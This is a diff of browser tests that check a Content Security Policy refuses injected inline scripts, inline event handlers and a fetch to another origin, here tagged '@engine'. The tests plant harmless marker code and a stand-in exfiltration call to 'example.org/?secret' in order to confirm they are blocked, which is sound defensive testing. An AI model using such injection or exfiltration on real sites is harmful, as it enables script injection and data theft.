@@ -12,17 +12,21 @@ async function plant(page: Page, seen: Watch, act: () => void): Promise<string[]
 
 const hasRun = (page: Page) => page.evaluate(() => 'planted' in window);
 
-test('an inline script that nobody named does not run', async ({ page, seen }) => {
-  const refused = await plant(page, seen, () => {
-    const script = document.createElement('script');
-    script.textContent = 'window.planted = true';
-    document.body.append(script);
-  });
-  expect(refused).toEqual([expect.stringMatching(/^script-src-elem refuses inline/)]);
-  expect(await hasRun(page)).toBe(false);
-});
+test(
+  'an inline script that nobody named does not run',
+  { tag: '@engine' },
+  async ({ page, seen }) => {
+    const refused = await plant(page, seen, () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.planted = true';
+      document.body.append(script);
+    });
+    expect(refused).toEqual([expect.stringMatching(/^script-src-elem refuses inline/)]);
+    expect(await hasRun(page)).toBe(false);
+  },
+);
 
-test('nor does an event handler in markup', async ({ page, seen }) => {
+test('nor does an event handler in markup', { tag: '@engine' }, async ({ page, seen }) => {
   const refused = await plant(page, seen, () => {
     const button = document.createElement('button');
     button.setAttribute('onclick', 'window.planted = true');
@@ -32,7 +36,7 @@ test('nor does an event handler in markup', async ({ page, seen }) => {
   expect(await hasRun(page)).toBe(false);
 });
 
-test('nothing is sent to another origin', async ({ page, seen }) => {
+test('nothing is sent to another origin', { tag: '@engine' }, async ({ page, seen }) => {
   const refused = await plant(page, seen, () => {
     void fetch('https://example.org/?secret').catch(() => undefined);
   });
